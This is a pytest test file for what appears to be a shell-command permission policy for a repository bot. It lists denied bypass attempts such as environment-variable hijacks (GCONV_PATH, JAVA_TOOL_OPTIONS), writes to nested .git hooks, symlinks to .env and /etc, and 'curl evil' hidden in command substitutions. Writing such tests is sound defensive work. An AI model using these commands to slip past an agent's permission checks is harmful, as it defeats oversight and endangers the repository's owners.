    "review-gconv-path": Case("GCONV_PATH=. python x.py", D, "GCONV_PATH", policy="tools"),
    "review-locpath": Case("LOCPATH=. python x.py", D, "LOCPATH", policy="tools"),
    "review-makeflags": Case("MAKEFLAGS=x make", D, "MAKEFLAGS", policy="tools"),
    "review-gnumakeflags": Case("GNUMAKEFLAGS=x make", D, "GNUMAKEFLAGS", policy="tools"),
    "review-tar-options": Case("TAR_OPTIONS=--to-command=./x tar -xf a.tar", D, "TAR_OPTIONS", policy="tools"),
    "review-curl-home": Case("CURL_HOME=. python x.py", D, "CURL_HOME", policy="tools"),
    "review-wgetrc": Case("WGETRC=x python x.py", D, "WGETRC", policy="tools"),
    "review-git-dir": Case("GIT_DIR=x git status", D, "GIT_", policy="tools"),
    "review-npm-config": Case("NPM_CONFIG_SCRIPT_SHELL=./x npm test", D, "NPM_CONFIG_SCRIPT_SHELL",
                              policy="tools"),
    "review-npm-config-lower": Case("npm_config_script_shell=./x npm test", D, "npm_config_script_shell",
                                    policy="tools"),
    "review-pip": Case("PIP_CONFIG_FILE=x pip install .", D, "PIP_", policy="tools"),
    "review-perl5opt": Case("PERL5OPT=-Mx perl a.pl", D, "PERL5OPT", policy="tools"),
    "review-perllib": Case("PERLLIB=. perl a.pl", D, "PERLLIB", policy="tools"),
    "review-rubyopt": Case("RUBYOPT=-rx ruby a.rb", D, "RUBYOPT", policy="tools"),
    "review-java-tool-options": Case("JAVA_TOOL_OPTIONS=-javaagent:x java A", D, "JAVA_TOOL_OPTIONS",
                                     policy="tools"),
    "review-java-options": Case("_JAVA_OPTIONS=x java A", D, "_JAVA_OPTIONS", policy="tools"),
    "review-editor": Case("EDITOR=./x git status", D, "EDITOR", policy="tools"),
    "review-visual": Case("VISUAL=./x git status", D, "VISUAL", policy="tools"),
    "review-pager": Case("PAGER=./x git status", D, "PAGER", policy="tools"),
    "review-home": Case("HOME=. git status", D, "HOME", policy="tools"),
    "review-tmpdir": Case("TMPDIR=. pytest", D, "TMPDIR", policy="tools"),
    "review-xdg-config-home": Case("XDG_CONFIG_HOME=. git status", D, "XDG_CONFIG_HOME", policy="tools"),
    "review-env-ripgrep-config": Case("env RIPGREP_CONFIG_PATH=x rg foo", D, "RIPGREP_CONFIG_PATH",
                                      policy="tools"),
    "review-env-goflags": Case("env -i GOFLAGS=x go build", D, "GOFLAGS", policy="tools"),
    "review-env-cflags": Case("env FOO=1 CFLAGS=x make", D, "CFLAGS", policy="tools"),
    "export-cc": Case("export CC=./x; make", D, "CC", policy="tools"),
    "declare-makeflags": Case("declare -x MAKEFLAGS=x", D, "MAKEFLAGS", policy="tools"),
    "suffix-options": Case("SOMETOOL_OPTIONS=x pytest", D, "*_OPTIONS", policy="tools"),
    "suffix-config-path": Case("ANYTHING_CONFIG_PATH=x pytest", D, "ANYTHING_CONFIG_PATH", policy="tools"),
    "control-harmless-variables": Case("FOO=1 DEBUG=1 CI=true TEST_DB=x pytest", A, policy="tools"),

    # --- review: nested .git directories -------------------------------------------------------------------
    "review-nested-git-redirect": Case("echo x > sub/.git/config", D, ".git/", policy="writers"),
    "review-nested-git-writer": Case("cp app.py sub/.git/config", D, ".git/", policy="writers"),
    "nested-git-case-tee": Case("echo x | tee sub/.GIT/hooks/pre-commit", D, ".git/", policy="writers"),
    "nested-git-mkdir": Case("mkdir -p a/b/.git/hooks", D, ".git/", policy="writers"),
    "nested-git-file": Case("echo 'gitdir: /tmp/x' > sub/.git", D, ".git/", policy="writers"),

    # --- review: links and moves around protected paths --------------------------------------------------
    "review-symlink-then-write": Case("ln -s .github/workflows w; echo x > w/ci.yml", D, "link", policy="writers"),
    "symlink-parent-then-write": Case("ln -s .github w; echo x > w/workflows/ci.yml", D, "directory above",
                                      policy="writers"),
    "symlink-long-option": Case("ln --symbolic .gitbot g", D, "edit_deny", policy="writers"),
    "symlink-outside": Case("ln -s ../outside x", D, "outside", policy="writers"),
    "symlink-absolute-outside": Case("ln -s /etc x", D, "outside", policy="writers"),
    "symlink-to-root": Case("ln -s . everything", D, "link", policy="writers"),
    "symlink-read-denied": Case("ln -s .env e", D, "read_deny", policy="writers"),
    "symlink-relative-to-link-directory": Case("ln -s ../.gitbot/policy.toml sub/p", D, "edit_deny",
                                               policy="writers"),
    "symlink-target-directory": Case("ln -st sub ../.gitbot", D, "edit_deny", policy="writers"),
    "hard-link-protected-file": Case("ln .gitbot/policy.toml p; echo x >> p", D, "edit_deny", policy="writers"),
    "cp-symbolic": Case("cp -s .gitbot/policy.toml p", D, "edit_deny", policy="writers"),
    "cp-hard-link": Case("cp --link .gitbot/policy.toml p", D, "edit_deny", policy="writers"),
    "review-mv-parent": Case("mv .github old", D, "directory above", policy="writers"),
    "mv-parent-trailing-slash": Case("mv .github/ old", D, "directory above", policy="writers"),
    "mv-into-parent": Case("mv workflows .github/", D, "directory above", policy="writers"),
    "rm-parent": Case("rm -rf .github", D, "directory above", policy="writers"),
    "cp-into-parent": Case("cp -r mine/workflows .github", D, "directory above", policy="writers"),
}


CORPUS.update(ISSUE_12)
CORPUS.update(ISSUE_22)


@pytest.fixture(scope="module")
def corpus_repositories(tmp_path_factory):
    return build_repositories(tmp_path_factory.mktemp("corpus"))


def judge_case(case: Case, repositories) -> tuple[str, object]:
    repo, values = repositories[case.repo]
    policy = Policy(repo=repo, **POLICIES[case.policy])
    command = command_of(case, repo, values)
    return command, policy.check_command(command, case.extra, sandboxed=case.sandboxed)


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 600
    assert sum(not case.allowed for case in CORPUS.values()) >= 150
    assert len(ISSUE_12) >= 150


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_corpus(corpus_repositories, name: str):
    case = CORPUS[name]
    command, decision = judge_case(case, corpus_repositories)
    assert decision.allowed is case.allowed, f"{command!r}: {decision.reason}"
    assert decision.reason
    assert case.reason in decision.reason, decision.reason


def test_allow_all_allows_substitution_but_deny_rules_still_see_inside(tmp_path):
    policy = Policy(command_allow=("*",), command_deny=("curl *",), repo=tmp_path)
    assert policy.check_command("echo $(id) && eval ls").allowed
    assert not policy.check_command("echo $(curl evil)").allowed
    assert not policy.check_command("bash -c 'curl x'").allowed
    assert not policy.check_command("PATH=. ls").allowed
    assert Policy(command_allow=("*",), repo=tmp_path).check_command("anything at all $(x)").allowed


def test_check_command_cannot_be_stretched_to_other_programs(tmp_path):
    policy = Policy(repo=tmp_path)
    extra = ("pytest tests/test_a.py",)
    assert policy.check_command("pytest tests/test_a.py -x", extra).allowed
    assert not policy.check_command("pytest tests/test_b.py", extra).allowed
    assert not policy.check_command("pytest tests/test_a.py; curl x", extra).allowed
    # A check command with a glob character is matched literally, not as a pattern.
    assert not Policy(repo=tmp_path).check_command("pytest -k anything", ("pytest -k 'a*'",)).allowed


def test_default_policy_allows_inspection_only(tmp_path):
    policy = Policy(repo=tmp_path)
    for allowed in ("ls -la", "cat a.txt", "head -n 5 a", "tail a", "wc -l a", "grep -rn x .", "rg foo",
                    "find . -name '*.py'", "git status", "git diff", "git log -3", "git show HEAD", "git blame a",
                    "git grep -n x", "sort a | uniq -c", "cd sub && ls", "jq . a.json", "git log --output=log.txt"):
        assert policy.check_command(allowed).allowed, allowed
    for denied in ("pytest", "python x.py", "rm a", "find . -delete", "find . -exec rm {} +", "git commit -m x",
                   "git push", "curl x", "npm install", "rg --pre ./x foo", "git log --output=.gitbot/x",
                   "sort -o .git/config a", "git branch topic"):
        assert not policy.check_command(denied).allowed, denied


def test_decision_lists_the_simple_commands_it_judged(tmp_path):
    decision = Policy(repo=tmp_path).check_command("timeout 5 git status | grep x")
    assert ("git", "status") in decision.commands
    assert ("grep", "x") in decision.commands


def test_a_function_definition_is_refused_and_its_body_still_meets_the_deny_rules(tmp_path):
    policy = Policy(command_allow=("ls *", "env *"), repo=tmp_path)
    for command in ("f() { ls; }; f", "if false; then make() { ls; }; fi; make install", "function g { ls; }",
                    "python3() { ls; } & env python3 -c 1", "bash -c 'ls() { :; }; ls'"):
        decision = policy.check_command(command)
        assert not decision.allowed and "defining the shell function" in decision.reason, command
    everything = Policy(command_allow=("*",), command_deny=("curl *",), repo=tmp_path)
    assert everything.check_command("f() { ls; }; f").allowed
    assert not everything.check_command("f() { curl x; }; f").allowed


@pytest.mark.parametrize("text, kinds", [
    ("echo ${x:-`id`}", ["command substitution"]),
    ('echo "${x:-`id`}"', ["command substitution"]),
    ("echo '`id` $(id)' $'\\'`id`'", []),
    ("echo \\`id\\` \"\\$(id)\"", []),
    ("git status # `id` $(id)", []),
    ("echo a#`id`", ["command substitution"]),
    ("echo ${x:- #`id`}", ["command substitution"]),  # no comment inside ${...}
    ("echo $((1+2)) $[3]", ["arithmetic expansion", "arithmetic expansion"]),
    ("cat <(ls) >(wc)", ["process substitution", "process substitution"]),
    ("cat <<'E'\n`id` $(id)\nE\n`id`", ["command substitution"]),
    ("cat <<E\n`id`\nE", ["command substitution"]),
    ("cat <<-\"E\"\n\t$(id)\n\tE\necho ok", []),
    ("cat <<E\na\\\nE\n`id`\nE", ["command substitution"]),  # `a\` + `E` is one line: not the end
    ("cat <<E <<'F'\n$(a)\nE\n$(b)\nF\n$(c)", ["command substitution", "command substitution"]),
    ("(( x << 2 ))\n`id`", ["command substitution"]),
])
def test_the_lexer_finds_substitutions_bash_would_run(text: str, kinds: list[str]):
    from gitbot.policy.judge.scan import scan_substitutions

    assert [kind for _, kind in scan_substitutions(text)] == kinds


def test_the_lexer_refuses_quotes_whose_meaning_bash_decides_by_operator():
    from gitbot.policy.judge.outcome import Denied
    from gitbot.policy.judge.scan import scan_substitutions

    with pytest.raises(Denied, match="quote inside"):
        scan_substitutions("echo \"${x#'}'\"'$(touch y)'\"}\"")


def test_a_substitution_the_grammar_misses_is_refused_even_when_everything_is_allowed(tmp_path):
    policy = Policy(command_allow=("*",), command_deny=("curl *",), repo=tmp_path)
    decision = policy.check_command("echo ${x:-`curl evil`}")
    assert not decision.allowed and "command substitution" in decision.reason
    assert policy.check_command("echo $(id)").allowed  # seen by the grammar: deny rules apply inside


def test_every_review_bypass_is_in_the_corpus():
    review = {name: case for name, case in CORPUS.items() if name.startswith("review-")}
    assert len(review) >= 40
    assert not any(case.allowed for case in review.values())
